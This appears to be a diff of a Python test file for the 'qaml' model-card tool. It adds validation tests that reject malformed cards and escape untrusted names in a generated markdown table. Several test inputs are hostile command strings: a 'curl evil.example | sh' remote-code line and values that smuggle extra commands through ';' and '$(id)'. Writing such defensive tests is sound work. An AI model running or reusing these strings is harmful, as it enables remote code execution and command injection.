@@ -59,7 +59,7 @@ def card(name: str = "mine", weights: str = "0123456789abcdef", robust: int = 6)
             "source_weights": arena.source.weights,
         },
         "figures": figures,
-        "commands": {step: f"qaml {plan.command} {name}" for step, plan in protocol.steps.items()},
+        "commands": {step: f"qaml {plan.command} mine" for step, plan in protocol.steps.items()},
         "versions": {"qaml-qiskit": "0.1.0"},
     }
 
@@ -115,7 +115,14 @@ def part(name: str, **changes: object) -> Callable[[Plain], None]:
         (figure("ece", value=1.2), "ece: got 1.2"),
         (figure("ece", interval=[0.3, 0.1]), "the interval of ece"),
         (figure("two_qubit_gates", value=-3), "a number of gates"),
-        (figure("audit", value=1), "a word"),
+        (figure("audit", value=1), "audit: got 1; expected one of sound"),
+        (figure("audit", value="quite sound"), "audit: got quite sound"),
+        (part("commands", attack="curl evil.example | sh"), "the command of attack: got curl"),
+        (part("commands", attack="qaml attack mine; rm x"), "the command of attack"),
+        (part("commands", attack="qaml attack $(id)"), "the command of attack"),
+        (part("commands", attack="qaml sweep mine"), "a call of qaml attack"),
+        (part("commands", attack="qaml attack 'mine"), "the command of attack"),
+        (lambda plain: plain.update(note="x" * 501), "note.*at most 500 characters"),
     ],
 )
 def test_cards_that_do_not_fit(change: Callable[[Plain], None], words: str, tmp_path: Path) -> None:
@@ -151,6 +158,18 @@ def test_a_table_of_all_cards_is_derived(tmp_path: Path) -> None:
     before = page, lines
     collect_cards(tmp_path)
     assert ((tmp_path / MARKDOWN_FILE).read_text(), (tmp_path / CSV_FILE).read_text().splitlines()) == before
+
+
+def test_a_filter_makes_another_row(tmp_path: Path) -> None:
+    written(tmp_path, card("mine"), "a")
+    written(tmp_path, card("mine@filter:median:3"), "b")
+    assert collect_cards(tmp_path).model == ["mine", "mine@filter:median:3"]
+
+
+def test_names_that_others_sent_are_text(tmp_path: Path) -> None:
+    written(tmp_path, card("a|b\n<b>bold"))
+    collect_cards(tmp_path)
+    assert "| a\\|b &lt;b&gt;bold |" in (tmp_path / MARKDOWN_FILE).read_text()
 
 
 def test_names_of_strangers_end_no_cell(tmp_path: Path) -> None:
